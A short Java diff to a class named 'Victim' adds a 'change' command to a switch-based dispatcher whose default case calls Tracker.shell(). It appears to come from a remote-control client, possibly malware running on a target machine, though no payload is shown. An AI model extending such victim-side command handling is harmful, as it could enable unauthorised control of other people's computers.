@@ -51,6 +51,7 @@ public class Victim {
                     case "hardware": return Tracker.hardware();
                     default: return Tracker.shell();
                 }
+            case "change": return com.example.victim.Changes.run(word[1]);
             case "mirror": return com.example.victim.Mirror.check();
             case "clock": return String.valueOf(System.currentTimeMillis());
             default: return "?";
